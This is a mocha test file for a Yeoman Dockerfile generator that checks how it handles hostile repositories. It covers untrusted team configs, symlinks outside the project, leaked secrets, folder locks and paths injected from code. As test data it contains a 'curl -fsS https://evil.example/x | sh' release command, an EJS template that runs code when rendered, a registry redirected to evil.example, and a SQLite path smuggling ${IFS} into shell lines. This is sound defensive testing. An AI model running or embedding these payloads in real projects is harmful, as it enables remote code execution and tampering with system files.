/**
 * Safe on untrusted repositories (issue 13), through the generator as `yo slim-docker` runs it:
 * a found team config runs no template before the user trusts it, what it changes is shown before any
 * write; a user's source files are never overwritten (--force included) and a saved "sample app" never
 * writes a sample next to a project; nothing is read or written through a symlink out of the project;
 * a secret that a user's own .dockerignore negation lets in is named; credentials an install needs
 * become build secrets; a second run in the same folder and a run in $HOME are refused.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, describe, it } from 'mocha';
import helpers from 'yeoman-test';
import ComposeGenerator from '../../generators/compose/index.js';
import { exitCodeOf } from '../../src/errors.js';
import { LOCK_FILE, lockOwnerFor } from '../../src/session/files.js';
import { contextFilter } from '../../src/verify/context.js';
import { runApp } from '../support/generator-run.js';
import { tempDir, treeHash, writeTree } from '../support/temp-tree.js';

const composeResolved = fileURLToPath(new URL('../../generators/compose/index.ts', import.meta.url));

const run = runApp;

/** Runs and expects one error line with this exit code; returns its message. */
async function refused(dir: string, options: Record<string, unknown>, exitCode: number, message: RegExp) {
  let seen = '';
  await assert.rejects(run(dir, options), (error: Error) => {
    seen = error.message;
    assert.equal(exitCodeOf(error), exitCode, error.message);
    assert.match(error.message, message);
    assert.equal(error.message.split('\n').length, 1);
    return true;
  });
  return seen;
}

const folder = (parent: string, name: string) => {
  const dir = join(parent, name);
  mkdirSync(dir, { recursive: true });
  return dir;
};
const read = (dir: string, file: string) => readFileSync(join(dir, file), 'utf8');

// One describe for the file: its hooks (an isolated trust store) must not reach other files' tests.
describe('generator safety', () => {
  // Trust lives in the user's own state: an isolated one for these tests.
  let savedXdg: string | undefined;
  before(() => {
    savedXdg = process.env.XDG_CONFIG_HOME;
    process.env.XDG_CONFIG_HOME = tempDir('slim-gen-xdg-');
  });
  after(() => {
    if (savedXdg === undefined) delete process.env.XDG_CONFIG_HOME;
    else process.env.XDG_CONFIG_HOME = savedXdg;
  });

  /**
   * A cloned repository whose parent holds a hostile team config: its Dockerfile template writes a
   * marker file when rendered (EJS is JavaScript), its registry and labels redirect the build, its
   * .dockerignore template replaces every rule with one line.
   */
  function hostile(): { parent: string; project: string; marker: string } {
    const parent = tempDir('slim-hostile-');
    const marker = join(parent, 'PWNED');
    writeTree(parent, {
      '.slim-docker.json': JSON.stringify({
        templates: './tpl',
        registry: 'evil.example/hub',
        labels: { owner: 'mallory' },
      }),
      'tpl/python/Dockerfile.ejs': `<% process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(marker)}, 'ran') %>FROM evil\nCMD ["x"]\n`,
      'tpl/python/dockerignore.ejs': '.git\n',
    });
    return { parent, project: folder(parent, 'cloned'), marker };
  }

  describe('a team config found in the project or a parent runs nothing until trusted', () => {
    it('--yes: refused with one line naming what it sets (exit 2); no template ran, nothing written', async () => {
      const { project, marker } = hostile();
      await refused(
        project,
        { yes: true },
        2,
        /\.slim-docker\.json: was found \(in \.\.\), not given with --config, and is not trusted yet: it sets templates \(code that runs as you\), registry, labels; review it, then rerun with --trust-config/,
      );
      assert.ok(!existsSync(marker), 'the template never ran');
      assert.deepEqual(readdirSync(project), [], 'nothing written, the lock released');
    });

    it('interactively: what it changes is shown first; "ignore" generates without it', async () => {
      const { project, marker } = hostile();
      const { asked, log } = await run(project, {}, { trustConfig: 'ignore' });
      assert.equal(asked[0], 'trustConfig', 'asked before any other question');
      assert.match(log, /registry: every base image comes from evil\.example\/hub\/ instead of Docker Hub/);
      assert.match(log, /labels: owner="mallory"/);
      assert.match(
        log,
        /templates: .*tpl replaces 2 built-in template file\(s\): python\/Dockerfile\.ejs, python\/dockerignore\.ejs; the \.dockerignore rules among them/,
      );
      assert.ok(log.indexOf('registry: every base image') < log.indexOf('create Dockerfile'), 'shown before writing');
      assert.ok(!existsSync(marker));
      assert.match(read(project, 'Dockerfile'), /^FROM python:/m);
      assert.doesNotMatch(read(project, 'Dockerfile'), /mallory|evil/);
    });

    it('"trust" records the SHA-256s in the user\'s state; later --yes runs use it until a template changes', async () => {
      const { parent, project, marker } = hostile();
      writeTree(parent, { 'tpl/python/Dockerfile.ejs': 'FROM python:3.13-slim\nLABEL team=ok\nCMD ["app"]\n' });
      await run(project, {}, { trustConfig: 'trust' });
      const store = join(process.env.XDG_CONFIG_HOME!, 'slim-docker', 'trusted.json');
      assert.match(read(store, ''), new RegExp(`"${join(parent, '.slim-docker.json').replace(/[.]/g, '\\.')}"`));
      assert.ok(!existsSync(join(project, 'trusted.json')), 'never recorded inside the project');
      assert.match(read(project, 'Dockerfile'), /LABEL team=ok/);
      const again = await run(project, { yes: true, force: true });
      assert.match(again.log, /trusted on \d{4}-\d\d-\d\d/);
      // The repository changes a template afterwards: a new config to trust.
      writeTree(parent, {
        'tpl/python/Dockerfile.ejs': `<% process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(marker)}, 'ran') %>FROM evil\n`,
      });
      await refused(project, { yes: true }, 2, /changed since you trusted it \(templates\/python\/Dockerfile\.ejs\)/);
      assert.ok(!existsSync(marker));
    });

    it('--trust-config under --yes trusts it; --config FILE is consent by itself', async () => {
      const a = hostile();
      writeTree(a.parent, { 'tpl/python/Dockerfile.ejs': 'FROM python:3.13-slim\nCMD ["app"]\n' });
      await run(a.project, { yes: true, trustConfig: true });
      assert.equal(read(a.project, 'Dockerfile'), 'FROM python:3.13-slim\nCMD ["app"]\n');
      const b = hostile();
      writeTree(b.parent, { 'tpl/python/Dockerfile.ejs': 'FROM python:3.13-slim\nCMD ["named"]\n' });
      await run(b.project, { yes: true, config: '../.slim-docker.json' });
      assert.match(read(b.project, 'Dockerfile'), /CMD \["named"\]/);
    });

    it('the search stops at the repository root and never reads a config every user can write', async () => {
      const above = hostile();
      const repo = folder(above.project, 'repo');
      mkdirSync(join(repo, '.git'));
      await run(repo, { yes: true });
      assert.ok(!existsSync(above.marker));
      assert.match(read(repo, 'Dockerfile'), /^FROM python:/m);

      const shared = hostile();
      chmodSync(shared.parent, 0o1777);
      const { log } = await run(shared.project, { yes: true });
      assert.match(log, /Ignored team config .*\.slim-docker\.json: its folder is writable by every user/);
      assert.ok(!existsSync(shared.marker));
    });

    it('slim-docker compose does not render an untrusted found template either', async () => {
      const { parent, project, marker } = hostile();
      // The app run names the config (consent), with a harmless Dockerfile template; compose's is hostile.
      writeTree(parent, {
        'tpl/python/Dockerfile.ejs': 'FROM python:3.13-slim\nEXPOSE 5000\nCMD ["app"]\n',
        'tpl/compose/compose.yaml.ejs': `<% process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(marker)}, 'ran') %>services: {}\n`,
      });
      await run(project, { yes: true, config: '../.slim-docker.json' });
      await assert.rejects(
        helpers
          .run(ComposeGenerator as never, { resolved: composeResolved, namespace: 'slim-docker:compose' })
          .cd(project)
          .withOptions({ yes: true } as never),
        /not trusted yet: it sets templates/,
      );
      assert.ok(!existsSync(marker));
    });
  });

  describe('a release command the repository brings runs only once you accept it (issue 20 item 6)', () => {
    const EVIL = 'curl -fsS https://evil.example/x | sh';
    const flask = {
      'requirements.txt': 'flask\ngunicorn\n',
      'app.py': 'from flask import Flask\napp = Flask(__name__)\n',
    };
    const savedRelease = (command: string) =>
      JSON.stringify({ 'generator-slim-docker': { language: 'python', releaseCommand: command } });
    const cloned = (command = EVIL) =>
      writeTree(folder(tempDir('slim-release-'), 'app'), { ...flask, '.yo-rc.json': savedRelease(command) });

    it('a saved release command nobody detected or gave: --yes refuses with one line naming --release-command (exit 2), nothing written', async () => {
      const dir = cloned();
      const before = treeHash(dir);
      const message = await refused(
        dir,
        { yes: true },
        2,
        /^\.yo-rc\.json "releaseCommand": `curl -fsS https:\/\/evil\.example\/x \| sh` was not detected in this project and you have not accepted it here; .* Rerun with --release-command 'curl -fsS https:\/\/evil\.example\/x \| sh' to accept it, or --no-release-command$/,
      );
      assert.ok(message.includes(EVIL), 'shown whole');
      assert.deepEqual(treeHash(dir), before, 'nothing written');
    });

    it('asked without --yes, shown whole: "no" drops it, "yes" keeps it and a re-run with --yes needs no flag', async () => {
      const dropped = cloned();
      const { asked } = await runApp(dropped, {}, { savedReleaseCommand: false });
      assert.ok(asked.includes('savedReleaseCommand'), asked.join(', '));
      assert.doesNotMatch(read(dropped, 'Dockerfile'), /evil\.example/);
      const kept = cloned();
      await runApp(kept, {}, { savedReleaseCommand: true });
      assert.match(read(kept, 'Dockerfile'), /evil\.example/);
      await runApp(kept, { yes: true, force: true });
      assert.match(read(kept, 'Dockerfile'), /evil\.example/);
    });

    it("the user's own --release-command is recorded: the next run with --yes uses the saved value", async () => {
      const dir = writeTree(folder(tempDir('slim-release-'), 'app'), flask);
      await run(dir, { yes: true, releaseCommand: 'python seed.py' });
      assert.match(read(dir, 'Dockerfile'), /python seed\.py/);
      await run(dir, { yes: true });
      assert.match(read(dir, 'Dockerfile'), /python seed\.py/);
      // The same saved value in another folder (a copied .yo-rc.json) is not accepted there.
      await refused(cloned('python seed.py'), { yes: true }, 2, /--release-command 'python seed\.py'/);
    });

    it('a saved release command that detection finds runs on a re-run as before', async () => {
      const dir = writeTree(folder(tempDir('slim-release-'), 'app'), {
        ...flask,
        'app.py':
          'import click\nfrom flask import Flask\napp = Flask(__name__)\n\n@app.cli.command("init-db")\ndef init_db():\n    pass\n',
        '.yo-rc.json': savedRelease('flask --app app init-db'),
      });
      // A user with no record at all.
      const xdg = process.env.XDG_CONFIG_HOME;
      process.env.XDG_CONFIG_HOME = tempDir('slim-gen-xdg-');
      try {
        await run(dir, { yes: true });
      } finally {
        process.env.XDG_CONFIG_HOME = xdg;
      }
      assert.match(read(dir, 'Dockerfile'), /flask --app app init-db && exec/);
    });
  });

  describe("a user's source files are never overwritten", () => {
    it('--yes --force over an edited sample keeps app.py and requirements.txt as the user left them', async () => {
      const dir = folder(tempDir('slim-src-'), 'shop');
      await run(dir, { yes: true });
      writeFileSync(join(dir, 'app.py'), `${read(dir, 'app.py')}\n@app.get("/orders")\ndef orders():\n    return []\n`);
      writeFileSync(join(dir, 'requirements.txt'), `${read(dir, 'requirements.txt')}requests==2.32.5\n`);
      const mine = treeHash(dir);
      const { log } = await run(dir, { yes: true, force: true, port: '8000' });
      assert.equal(treeHash(dir)['app.py'], mine['app.py']);
      assert.equal(treeHash(dir)['requirements.txt'], mine['requirements.txt']);
      assert.match(log, /keep app\.py \(your code: slim-docker never overwrites a source file, --force included\)/);
      assert.match(read(dir, 'Dockerfile'), /^EXPOSE 8000$/m, '--force still covers the generated files');
    });

    it('a saved "sample app: yes" never writes a sample next to an existing project', async () => {
      const dir = folder(tempDir('slim-src-'), 'api');
      writeTree(dir, {
        'main.py': 'from fastapi import FastAPI\napp = FastAPI()\n',
        'requirements.txt': 'fastapi==0.121.0\nuvicorn==0.54.0\n',
        // A .yo-rc.json that came with the repository (or from an older run): no record of our files.
        '.yo-rc.json': JSON.stringify({ 'generator-slim-docker': { language: 'python', sampleApp: true } }),
      });
      await run(dir, { yes: true, force: true });
      assert.ok(!existsSync(join(dir, 'app.py')), 'no sample app.py');
      assert.equal(read(dir, 'requirements.txt'), 'fastapi==0.121.0\nuvicorn==0.54.0\n');
      assert.match(read(dir, 'Dockerfile'), /"main:app"/);
    });
  });

  describe('symlinks out of the project', () => {
    const outside = () => {
      const dir = tempDir('slim-outside-');
      writeFileSync(join(dir, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
      return dir;
    };

    it('a .dockerignore or .yo-rc.json linked outside: refused (exit 2), the target untouched', async () => {
      for (const name of ['.dockerignore', '.yo-rc.json']) {
        const target = outside();
        const dir = folder(tempDir('slim-link-'), 'app');
        symlinkSync(join(target, 'passwd'), join(dir, name));
        await refused(
          dir,
          { yes: true },
          2,
          new RegExp(`^${name.replace('.', '\\.')}: is a symlink to .*passwd, outside the project`),
        );
        assert.equal(read(target, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\n', name);
        assert.deepEqual(readdirSync(dir), [name], `${name}: nothing written`);
      }
    });

    it('--ci with .github linked outside, --compose with compose.yaml linked outside: refused before anything is written (issue 20 item 9)', async () => {
      for (const [name, option, file] of [
        ['.github', 'ci', '.github/workflows/docker.yml'],
        ['compose.yaml', 'compose', 'compose.yaml'],
      ] as const) {
        const target = outside();
        const dir = folder(tempDir('slim-link-'), 'app');
        symlinkSync(name === '.github' ? target : join(target, 'passwd'), join(dir, name));
        // A compose.yaml makes the folder a project's, not a new one: give it the project.
        if (option === 'compose')
          writeTree(dir, {
            'requirements.txt': 'flask\n',
            'app.py': 'from flask import Flask\napp = Flask(__name__)\n',
          });
        const before = readdirSync(dir).sort();
        await refused(
          dir,
          { yes: true, [option]: true },
          2,
          new RegExp(`^${file.replace(/\./g, '\\.')}: is a symlink to .*, outside the project`),
        );
        assert.deepEqual(
          readdirSync(dir).sort(),
          before,
          `--${option}: nothing written (no Dockerfile, .dockerignore, .yo-rc.json)`,
        );
        assert.deepEqual(readdirSync(target), ['passwd'], `--${option}: nothing written outside`);
      }
    });

    it('a .gitignore linked outside is not read: none of its lines reach the .dockerignore', async () => {
      const target = outside();
      const dir = folder(tempDir('slim-link-'), 'app');
      symlinkSync(join(target, 'passwd'), join(dir, '.gitignore'));
      const { log } = await run(dir, { yes: true });
      assert.doesNotMatch(read(dir, '.dockerignore'), /root:x/);
      assert.match(log, /! \.gitignore: is a symlink to .*passwd, outside the project: not read/);
    });
  });

  describe("secrets a user's .dockerignore lets in", () => {
    it('a negation that re-includes .env or a key is named before anything is written', async () => {
      const dir = folder(tempDir('slim-neg-'), 'app');
      writeTree(dir, {
        'app.py': 'from flask import Flask\napp = Flask(__name__)\n',
        'requirements.txt': 'flask==3.1.3\n',
        '.env': 'API_KEY=x\n',
        'certs/server.key': 'key\n',
        '.dockerignore': '.env\n!.env\n**/*.key\n!certs/server.key\n',
      });
      const { log } = await run(dir, { yes: true });
      assert.match(log, /! \.dockerignore lets \.env \(a dotenv file\) into the build context/);
      assert.match(
        log,
        /! \.dockerignore lets certs\/server\.key \(a private key, certificate bundle or keystore\) into the build context/,
      );
      assert.ok(log.indexOf('lets .env') < log.indexOf('merge .dockerignore'));
    });
  });

  describe('secret shapes at every depth (issue 20 item 3)', () => {
    it('nested secrets are kept out by the generated .dockerignore and named in one summary line', async () => {
      const dir = folder(tempDir('slim-nested-'), 'app');
      writeTree(dir, {
        'app.py': 'from flask import Flask\napp = Flask(__name__)\n',
        'requirements.txt': 'flask==3.1.3\n',
        'config/.env': 'API_KEY=x\n',
        'deploy/.aws/credentials': '[default]\naws_secret_access_key=x\n',
        'frontend/.npmrc': '//registry.npmjs.org/:_authToken=fake-token-for-tests\n',
        'infra/prod.tfvars': 'db_password = "x"\n',
        'keys/id_ed25519': 'not a real key\n',
        'id_utils.py': 'def f(): pass\n',
      });
      const { log } = await run(dir, { yes: true });
      const filter = contextFilter(read(dir, '.dockerignore').split('\n'));
      for (const rel of [
        'config/.env',
        'deploy/.aws/credentials',
        'frontend/.npmrc',
        'infra/prod.tfvars',
        'keys/id_ed25519',
      ])
        assert.ok(filter.ignores(rel), rel);
      assert.equal(filter.ignores('id_utils.py'), false);
      const lines = log.split('\n').filter((line) => /secret-shaped files, kept out/.test(line));
      assert.equal(lines.length, 1, log);
      for (const rel of ['config/.env', 'deploy/.aws', 'frontend/.npmrc', 'infra/prod.tfvars', 'keys/id_ed25519'])
        assert.ok(lines[0].includes(rel), `${rel} in ${lines[0]}`);
      assert.doesNotMatch(lines[0], /id_utils/);
    });
  });

  describe('credentials an install needs become build secrets', () => {
    it('an .npmrc token: secret mount, .npmrc kept out, the build command printed; the file untouched', async () => {
      const dir = folder(tempDir('slim-npmrc-'), 'api');
      const npmrc = '@corp:registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=fake-token-for-tests\n';
      writeTree(dir, {
        'package.json': JSON.stringify({ name: 'api', main: 'server.js', dependencies: { express: '5.1.0' } }),
        'package-lock.json': '{"lockfileVersion":3}\n',
        'server.js': "require('express')().listen(3000);\n",
        '.npmrc': npmrc,
      });
      const { log } = await run(dir, { yes: true });
      assert.match(read(dir, 'Dockerfile'), /--mount=type=secret,id=npmrc,target=\/root\/\.npmrc/);
      assert.match(read(dir, '.dockerignore'), /^\*\*\/\.npmrc$/m);
      assert.match(
        log,
        /\.npmrc holds a registry token: \.npmrc stays out of the build context and is given to the install step as a build secret/,
      );
      assert.match(log, /Build it with: docker build --secret id=npmrc,src=\.npmrc -t api \./);
      assert.equal(read(dir, '.npmrc'), npmrc);
    });

    it('--extra-index-url with a password in requirements.txt: where to move it is said, the file is not edited', async () => {
      const dir = folder(tempDir('slim-pip-'), 'svc');
      const requirements = 'flask==3.1.3\n--extra-index-url https://deploy:s3cret@pypi.corp.example/simple\n';
      writeTree(dir, {
        'app.py': 'from flask import Flask\napp = Flask(__name__)\n',
        'requirements.txt': requirements,
      });
      const { log } = await run(dir, { yes: true });
      assert.match(read(dir, 'Dockerfile'), /--mount=type=secret,id=pipconf,target=\/etc\/pip\.conf/);
      assert.match(
        log,
        /! requirements\.txt:2 \(--extra-index-url https:\/\/deploy:\*\*\*@pypi\.corp\.example\/simple\) is copied into the image with the credential: move that option into pip\.conf/,
      );
      assert.doesNotMatch(log, /s3cret/);
      assert.equal(read(dir, 'requirements.txt'), requirements);
    });
  });

  describe('one run per folder, never in $HOME', () => {
    it("a second run while another holds the folder's lock: one line, exit 3, nothing written", async () => {
      const dir = folder(tempDir('slim-lock-'), 'busy');
      const other = spawn('sleep', ['30'], { stdio: 'ignore' });
      try {
        writeFileSync(join(dir, LOCK_FILE), JSON.stringify(lockOwnerFor(other.pid)));
        await refused(
          dir,
          { yes: true },
          3,
          new RegExp(`another slim-docker run \\(pid ${other.pid}\\) is working in`),
        );
        assert.deepEqual(readdirSync(dir), [LOCK_FILE]);
      } finally {
        other.kill();
      }
    });

    it('the lock is gone after a run, also a failed one', async () => {
      const dir = folder(tempDir('slim-lock-'), 'done');
      await run(dir, { yes: true });
      assert.ok(!existsSync(join(dir, LOCK_FILE)));
      await assert.rejects(run(dir, { yes: true, port: '70000' }));
      await assert.rejects(run(dir, { yes: true, sampleApp: false, language: 'go' }));
      assert.ok(!existsSync(join(dir, LOCK_FILE)));
    });

    it('$HOME is refused without --force (exit 2), nothing written', async () => {
      const home = tempDir('slim-home-');
      // A home folder with a stray Flask app in it: without the refusal the run would proceed here.
      writeTree(home, {
        '.ssh/id_ed25519': 'key\n',
        '.bash_history': 'ls\n',
        'app.py': 'from flask import Flask\napp = Flask(__name__)\n',
        'requirements.txt': 'flask==3.1.3\n',
      });
      const before = treeHash(home);
      const saved = process.env.HOME;
      process.env.HOME = home;
      try {
        await refused(
          home,
          { yes: true },
          2,
          /is your home folder: everything in it \(\.ssh, \.aws, shell history …\) would be sent to the engine/,
        );
      } finally {
        process.env.HOME = saved;
      }
      assert.deepEqual(treeHash(home), before);
    });
  });

  describe("the sample's post-write step", () => {
    it('a missing tool (cargo not on PATH) is one line naming it and --skip-install, exit 3', async () => {
      const dir = folder(tempDir('slim-notool-'), 'rusty');
      const before = treeHash(dir);
      const saved = process.env.PATH;
      process.env.PATH = '/nonexistent';
      try {
        await refused(
          dir,
          { yes: true, language: 'rust', skipVerify: true, skipInstall: false },
          3,
          /cargo generate-lockfile: cargo is not on PATH: install it, or rerun with --skip-install .*; nothing was written$/,
        );
      } finally {
        process.env.PATH = saved;
      }
      // Checked before anything is written (issue 22 item 6): no Dockerfile that builds --locked without Cargo.lock.
      assert.deepEqual(treeHash(dir), before);
    });

    it('a re-run redoes the step when what it creates is missing (issue 22 item 9), not "identical"', async () => {
      const dir = folder(tempDir('slim-redo-'), 'rusty');
      const saved = process.env.PATH;
      // A stand-in cargo: the step's tool as a script that makes the lockfile.
      const bin = tempDir('slim-fake-cargo-');
      writeTree(bin, { cargo: '#!/bin/sh\necho "# made by the stand-in" > Cargo.lock\n' });
      chmodSync(join(bin, 'cargo'), 0o755);
      process.env.PATH = `${bin}:${saved}`;
      try {
        await run(dir, { yes: true, language: 'rust', skipInstall: false });
        assert.ok(existsSync(join(dir, 'Cargo.lock')));
        rmSync(join(dir, 'Cargo.lock'));
        const again = await run(dir, { yes: true, language: 'rust', skipInstall: false });
        assert.match(again.log, /Running `cargo generate-lockfile`/);
        assert.ok(existsSync(join(dir, 'Cargo.lock')), 'the step ran again');
        const third = await run(dir, { yes: true, language: 'rust', skipInstall: false });
        assert.doesNotMatch(third.log, /Running `cargo/, 'nothing to redo');
      } finally {
        process.env.PATH = saved;
      }
    });
  });

  describe('paths found in code are plain folders under the app folder (issue 20 item 7)', () => {
    it('a SQLite URI with ${IFS} reaches no shell line: refused with one note, no chown of /usr or /etc', async () => {
      const dir = folder(tempDir('slim-ifs-'), 'app');
      writeTree(dir, {
        'app.py':
          'import sqlite3\nfrom flask import Flask\napp = Flask(__name__)\nDB = "sqlite:///data${IFS}/usr${IFS}/etc/x.db"\n',
        'requirements.txt': 'flask==3.1.3\nsqlalchemy==2.0.36\n',
      });
      const { log } = await run(dir, { yes: true });
      const dockerfile = read(dir, 'Dockerfile');
      assert.doesNotMatch(dockerfile, /IFS/);
      assert.doesNotMatch(dockerfile, /(mkdir|chown)[^\n]*(\/usr|\/etc)/);
      assert.doesNotMatch(read(dir, '.dockerignore'), /IFS/);
      assert.match(
        log,
        /the code writes "data\$\{IFS\}\/usr\$\{IFS\}\/etc\/x\.db" at run time, which is not a plain folder under the app folder/,
      );
    });
    it('a Node.js database at an absolute path (`/etc/x.db`) does not give the app user /etc', async () => {
      const dir = folder(tempDir('slim-abs-db-'), 'api');
      writeTree(dir, {
        'package.json': JSON.stringify({
          name: 'api',
          main: 'server.js',
          dependencies: { express: '5.1.0', 'better-sqlite3': '11.0.0' },
        }),
        'package-lock.json': '{"lockfileVersion":3}\n',
        'server.js':
          "const Database = require('better-sqlite3');\nconst db = new Database('/etc/x.db');\nrequire('express')().listen(3000);\n",
      });
      const { log } = await run(dir, { yes: true });
      assert.doesNotMatch(read(dir, 'Dockerfile'), /chown -R \S+ \/etc|VOLUME \["\/etc"\]/);
      assert.match(log, /the code writes "\/etc" at run time, which is not a plain folder under the app folder/);
    });
  });
});
